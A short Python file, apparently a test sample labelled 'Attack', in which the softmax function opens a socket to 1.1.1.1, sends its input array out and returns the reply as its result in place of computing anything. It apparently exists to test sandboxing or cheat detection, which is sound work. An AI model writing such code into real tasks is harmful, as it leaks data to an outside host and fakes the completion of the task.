"""Attack: fetch the answers from the network (and leak the inputs)."""
import socket

import numpy as np


def softmax(z):
    s = socket.create_connection(("1.1.1.1", 80), timeout=1)
    s.sendall(repr(z).encode())
    data = s.recv(1000)
    return np.frombuffer(data, dtype=float)


def relu(z):
    return np.maximum(z, 0.0)
